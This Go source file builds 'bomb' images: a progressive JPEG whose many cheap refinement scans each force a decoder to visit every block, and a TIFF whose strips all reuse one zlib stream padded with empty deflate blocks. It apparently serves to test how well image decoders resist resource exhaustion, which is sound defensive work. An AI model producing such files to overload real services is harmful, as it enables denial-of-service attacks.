package main

import (
	"bytes"
	"encoding/binary"
	"hash/adler32"
)

// progressiveBomb returns a flat progressive JPEG of three components with many refinement scans, each of which costs few
// bytes and visits every block.
func progressiveBomb(width, height, scans int) []byte {
	const (
		quantization, huffman, frame, scan = 0xdb, 0xc4, 0xc2, 0xda
		runs                               = 0xe0 // a run of 2^14 to 2^15-1 blocks without a coefficient
	)
	var out bytes.Buffer
	segment := func(marker byte, data ...byte) {
		out.Write([]byte{0xff, marker})
		_ = binary.Write(&out, binary.BigEndian, uint16(len(data)+2))
		out.Write(data)
	}
	oneCode := func(class, symbol byte) { // a table whose only code is one bit long
		segment(huffman, append(append([]byte{class, 1}, make([]byte, 15)...), symbol)...)
	}
	blocks := ((width + 7) / 8) * ((height + 7) / 8)
	out.Write([]byte{0xff, 0xd8})
	segment(quantization, append([]byte{0}, bytes.Repeat([]byte{1}, 64)...)...)
	segment(frame, 8, byte(height>>8), byte(height), byte(width>>8), byte(width), 3, 1, 0x11, 0, 2, 0x11, 0, 3, 0x11, 0)
	oneCode(0x00, 0)
	oneCode(0x10, runs)
	segment(scan, 3, 1, 0, 2, 0, 3, 0, 0, 0, 1)
	out.Write(make([]byte, (blocks*3+7)/8))
	bits := new(bitWriter)
	for range (blocks + 32766) / 32767 {
		bits.write(0, 1)
		bits.write(1<<14-1, 14)
	}
	for n := range scans {
		approximation := byte(0x10) // a refinement of the last bit
		if n < 3 {
			approximation = 0x01
		}
		segment(scan, 1, byte(n%3+1), 0, 1, 63, approximation)
		out.Write(bits.stuffed())
	}
	out.Write([]byte{0xff, 0xd9})
	return out.Bytes()
}

// A bitWriter writes bits, the highest first.
type bitWriter struct {
	bytes []byte
	free  uint // bits of the last byte
}

func (b *bitWriter) write(value, count uint) {
	for ; count > 0; count-- {
		if b.free == 0 {
			b.bytes, b.free = append(b.bytes, 0xff), 8 // padded with ones
		}
		b.free--
		if value>>(count-1)&1 == 0 {
			b.bytes[len(b.bytes)-1] &^= 1 << b.free
		}
	}
}

// stuffed returns the bytes as a JPEG's scan has them: a zero follows each 0xff.
func (b *bitWriter) stuffed() []byte {
	return bytes.ReplaceAll(b.bytes, []byte{0xff}, []byte{0xff, 0})
}

// sharedStripsBomb returns a TIFF of one column whose strips, one for each row, are all the same bytes of the file: a zlib
// stream of many empty blocks.
func sharedStripsBomb(height, emptyBlocks int) []byte {
	const (
		short, long           = 3, 4
		deflate, rgb, headEnd = 8, 2, 8
	)
	pixels := []byte("abcdefgh")
	strip := append([]byte{0x78, 0x01}, bytes.Repeat([]byte{0, 0, 0, 0xff, 0xff}, emptyBlocks)...)
	strip = append(strip, 1, byte(len(pixels)), 0, ^byte(len(pixels)), 0xff)
	strip = append(strip, pixels...)
	strip = binary.BigEndian.AppendUint32(strip, adler32.Checksum(pixels))
	if len(strip)%2 == 1 {
		strip = append(strip, 0)
	}
	little := binary.LittleEndian
	offsets := headEnd + len(strip)
	counts := offsets + 4*height
	depths := counts + 4*height
	directory := depths + 6
	out := little.AppendUint32([]byte("II*\x00"), uint32(directory))
	out = append(out, strip...)
	for _, value := range []int{headEnd, len(strip)} {
		for range height {
			out = little.AppendUint32(out, uint32(value))
		}
	}
	for range 3 {
		out = little.AppendUint16(out, 8)
	}
	entries := [][4]int{
		{256, long, 1, 1}, {257, long, 1, height}, {258, short, 3, depths}, {259, short, 1, deflate}, {262, short, 1, rgb},
		{273, long, height, offsets}, {277, short, 1, 3}, {278, long, 1, 1}, {279, long, height, counts},
	}
	out = little.AppendUint16(out, uint16(len(entries)))
	for _, e := range entries {
		out = little.AppendUint16(little.AppendUint16(out, uint16(e[0])), uint16(e[1]))
		out = little.AppendUint32(little.AppendUint32(out, uint32(e[2])), uint32(e[3]))
	}
	return append(out, 0, 0, 0, 0)
}
